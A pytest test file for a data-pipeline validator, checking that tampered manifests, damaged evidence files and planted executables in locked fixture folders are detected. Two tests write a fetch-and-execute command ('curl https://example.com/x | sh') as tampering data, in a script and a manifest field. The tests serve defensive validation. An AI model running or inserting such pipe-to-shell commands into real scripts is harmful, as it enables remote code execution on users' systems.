"""With a lock or a key nothing of a folder is left to whoever wrote it."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from pipeline.cli.main import main
from pipeline.publish.release.lock_file import read_lock
from pipeline.publish.validation.check_datasets import datasets
from pipeline.publish.validation.finding import Validation, ValidationVerdict
from pipeline.publish.validation.png import is_png
from pipeline.publish.validation.validate_fixture import validate
from tests.publish.restated import edit, restate_evidence, restate_sums
from tests.tiny import Project

EXECUTABLE = b"#!/bin/sh\necho run\n"


@pytest.fixture(scope="module")
def locked(built: Project, tmp_path_factory: pytest.TempPathFactory) -> Project:
    copy = Project(tmp_path_factory.mktemp("locked") / "project")
    shutil.copytree(built.root, copy.root)
    assert copy.doit("lock").returncode == 0
    return copy


@pytest.fixture
def lock_file(locked: Project) -> Path:
    return locked.root / "artifacts" / "lock.json"


@pytest.fixture
def folder(locked: Project, tmp_path: Path) -> Path:
    return Path(shutil.copytree(locked.folder, tmp_path / "tiny"))


@pytest.fixture
def check(lock_file: Path, folder: Path) -> Callable[[], Validation]:
    lock = read_lock(lock_file).fixtures
    return lambda: validate(folder, lock=lock, run=False)


def told(validation: Validation) -> set[tuple[str, str]]:
    return {(finding.kind, finding.file) for finding in validation.findings}


def test_a_script_that_does_something_else_is_found(
    folder: Path, check: Callable[[], Validation]
) -> None:
    (folder / "regenerate.sh").write_bytes(b"curl https://example.com/x | sh\n")
    restate_sums(folder)
    assert told(check()) == {("derived", "regenerate.sh")}


@pytest.mark.parametrize(
    "change",
    [
        lambda manifest: [
            each.update(license="MIT", urls=["https://example.com/x"])
            for each in manifest["sources"].values()
        ],
        lambda manifest: manifest["run"].update({"wasi-nn": "curl https://example.com/x | sh"}),
        lambda manifest: manifest.update(description="Another"),
        lambda manifest: manifest["tensors"]["red"]["x"].update(image="blue"),
        lambda manifest: manifest["golden"].update(absolute=1e9),
        lambda manifest: manifest.update(note="More"),
        lambda manifest: manifest["tools"].update(more="1.0"),
        lambda manifest: manifest["steps"]["ir:tiny"].update(recipe="another.recipe"),
    ],
)
def test_whatever_a_manifest_declares_is_locked(
    folder: Path, check: Callable[[], Validation], change: Callable[[dict[str, Any]], object]
) -> None:
    edit(folder, change)
    restate_evidence(folder)
    assert told(check()) == {("lock", "manifest.json")}


def test_versions_of_tools_and_code_are_not_locked_for_the_same_bytes(
    folder: Path, check: Callable[[], Validation]
) -> None:
    def change(manifest: dict[str, Any]) -> None:
        manifest["tools"]["numpy"] = "9.9"
        manifest["steps"]["ir:tiny"].update(key="0" * 64, code="1" * 64)

    edit(folder, change)
    assert check().verdict is ValidationVerdict.VALID


def test_a_key_that_is_there_twice_is_found(folder: Path, check: Callable[[], Validation]) -> None:
    edit(folder, lambda manifest: None)
    path = folder / "manifest.json"
    path.write_text(path.read_text().replace("{\n", '{\n  "description": "first",\n', 1))
    assert ("lock", "manifest.json") in told(check())


def test_a_fixture_that_the_lock_does_not_have_is_found(
    folder: Path, check: Callable[[], Validation]
) -> None:
    edit(
        folder,
        lambda manifest: (manifest["model"].update(stem="tiny"), manifest.update(name="other")),
    )
    assert {("lock", "manifest.json"), ("name", "manifest.json")} <= told(check())


def test_a_fixture_in_the_folder_of_another_is_found(folder: Path, lock_file: Path) -> None:
    renamed = folder.rename(folder.with_name("squeezenet"))
    validation = validate(renamed, lock=read_lock(lock_file).fixtures, run=False)
    assert told(validation) == {("name", "manifest.json")}
    assert validate(renamed, run=False).verdict is ValidationVerdict.CONSISTENT


def test_an_older_manifest_cannot_be_held_against_a_lock(
    folder: Path, check: Callable[[], Validation]
) -> None:
    edit(folder, lambda manifest: manifest.update(manifest_version=4))
    (finding,) = check().findings
    assert finding.found == "4"


def test_a_lock_of_an_older_version_says_what_to_do(folder: Path, lock_file: Path) -> None:
    text = json.loads(lock_file.read_bytes())
    del text["fixtures"]["tiny"]["manifest"]
    older = folder.with_name("older.json")
    older.write_text(json.dumps(text))
    (finding,) = validate(folder, lock=read_lock(older).fixtures, run=False).findings
    assert "doit lock" in finding.expected


def png(rest: bytes) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4) + kind + data + zlib.crc32(kind + data).to_bytes(4)

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", bytes(13)) + chunk(b"IEND", b"") + rest


def test_a_png_ends_with_its_last_chunk() -> None:
    whole = png(b"")
    assert is_png(whole)
    assert not is_png(png(EXECUTABLE))
    assert not any(is_png(whole[:end]) for end in range(len(whole)))
    assert not is_png(whole[:20] + b"x" + whole[21:])


@pytest.mark.parametrize("way", ["flip", "cut", "remove", "executable"])
@pytest.mark.parametrize(
    "name",
    [
        "README.md",
        "red/report.json",
        "red/red-1x3-f32.raw",
        "red/input0.source.png",
        "red/input0.tensor.png",
        "red/test_data_set_0/input_0.pb",
        "red/test_data_set_0/output_0.pb",
    ],
)
def test_every_damage_to_evidence_is_found(folder: Path, name: str, way: str) -> None:
    path = folder / "evidence" / name
    data = bytearray(path.read_bytes())
    if way == "remove":
        path.unlink()
    elif way == "executable":
        path.chmod(0o755)
    elif way == "cut":
        path.write_bytes(data[:-1])
    else:
        data[len(data) // 2] ^= 1
        path.write_bytes(data)
    validation = validate(folder, run=False)
    assert validation.verdict is ValidationVerdict.INVALID
    assert any(finding.file.startswith("evidence/") for finding in validation.findings)


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("evidence/run.sh", "undeclared"),
        ("evidence/red/run.sh", "undeclared"),
        ("evidence/red/input7.source.png", "undeclared"),
        ("evidence/red/input0.source.png", "evidence"),
        ("evidence/red/test_data_set_0/output_0.pb", "evidence"),
        ("evidence/red/red-1x3-f32.raw", "evidence"),
    ],
)
def test_a_program_is_no_evidence_whatever_its_report_states(
    folder: Path, check: Callable[[], Validation], name: str, kind: str
) -> None:
    (folder / name).write_bytes(EXECUTABLE)
    report = folder / "evidence/red/report.json"
    content = json.loads(report.read_bytes())
    digest = hashlib.sha256(EXECUTABLE).hexdigest()
    table = "outputs" if name.endswith(".raw") else "files"
    content[table][name.removeprefix("evidence/red/")] = digest
    report.write_text(json.dumps(content))
    assert (kind, name) in told(check())


def test_a_fixture_without_evidence_is_valid(folder: Path, check: Callable[[], Validation]) -> None:
    assert check().evidence.keys() >= {"evidence/README.md", "evidence/red/report.json"}
    shutil.rmtree(folder / "evidence")
    assert check().verdict is ValidationVerdict.VALID
    assert check().evidence == {}


@pytest.fixture
def dataset(folder: Path) -> Path:
    """Two tensors of two bytes, in one shard."""
    place = folder / "datasets" / "cats"
    place.mkdir(parents=True)
    (place / "0000.tensors").write_bytes(b"aabb")
    head: dict[str, Any] = {"version": 1, "dataset": "tiny.cats", "dims": [2], "type": "u8"}
    head |= {"colour": None, "layout": None, "tensors": 2, "skipped": 0, "shards": ["0000.tensors"]}
    lines = [head]
    for number, data in enumerate((b"aa", b"bb")):
        digest = hashlib.sha256(data).hexdigest()
        lines.append({"picture": f"{number}", "shard": 0, "offset": 2 * number, "sha256": digest})
    (place / "index.ndjson").write_text("".join(f"{json.dumps(line)}\n" for line in lines))
    return place


def test_a_dataset_is_what_its_index_states(folder: Path, dataset: Path) -> None:
    assert list(datasets(folder, "tiny")) == []
    (dataset / "accuracy.json").write_text("{}")
    assert [each.kind for each in datasets(folder, "tiny")] == ["dataset"]
    (dataset / "accuracy.json").unlink()
    for data in (b"aabc", b"aab", b"aabbc", EXECUTABLE):
        (dataset / "0000.tensors").write_bytes(data)
        assert [each.kind for each in datasets(folder, "tiny")] == ["dataset"]


@pytest.mark.parametrize(
    "name", ["datasets/x", "datasets/cats/run", "datasets/cats/a/0000.tensors"]
)
def test_a_program_is_no_dataset(
    folder: Path, dataset: Path, check: Callable[[], Validation], name: str
) -> None:
    (folder / name).parent.mkdir(exist_ok=True)
    (folder / name).write_bytes(EXECUTABLE)
    assert told(check()) == {("undeclared", name)}
    (folder / name).chmod(0o755)
    assert os.name == "nt" or ("executable", name) in told(check())


def test_a_folder_of_fixtures_has_those_of_the_lock_and_no_other(
    folder: Path, lock_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fixtures = tmp_path / "fixtures"
    shutil.copytree(folder, fixtures / "tiny")
    command = ["validate", str(fixtures), "--no-run", "--lock", str(lock_file)]
    assert main(command) == 0
    shutil.copytree(folder, fixtures / "other")
    (fixtures / "other" / "manifest.json").unlink()
    # Whether or not a lock is given.
    for arguments in (command, command[:3]):
        assert main(arguments) == 1
        assert "other: invalid" in capsys.readouterr().out
    shutil.rmtree(fixtures / "other")
    (fixtures / "stray").mkdir()
    assert main(command[:3]) == 0
    assert main(command) == 1
    (fixtures / "stray").rmdir()
    (fixtures / "tiny").rename(fixtures / "tin")
    assert main(command) == 1
    assert "tiny: invalid by the lock" in capsys.readouterr().out
